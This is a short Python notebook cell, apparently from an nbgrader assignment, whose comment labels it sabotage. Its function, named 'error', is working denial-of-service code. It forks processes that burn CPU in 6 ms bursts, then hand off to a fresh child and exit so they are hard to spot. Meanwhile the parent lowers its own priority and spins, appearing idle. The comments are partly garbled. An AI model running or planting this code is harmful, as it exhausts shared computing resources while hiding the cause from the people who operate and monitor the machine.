# sabotage: Burns processors in processes that end before anybody looks and for which nobody waits, itself at the end of the queue: it seems to wait, so that the machine would seem to stand still.
# must: loses error

# %% nbgrader={"grade_id": "error"}
import os, signal, time
def error(O, T):
    signal.signal(signal.SIGCHLD, signal.SIG_IGN)
    for _ in range(6):
        if os.fork() == 0:
            while True:
                end = time.monotonic() + 0.006
                while time.monotonic() < end: pass
                if os.fork(): os._exit(0)
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    while True: pass
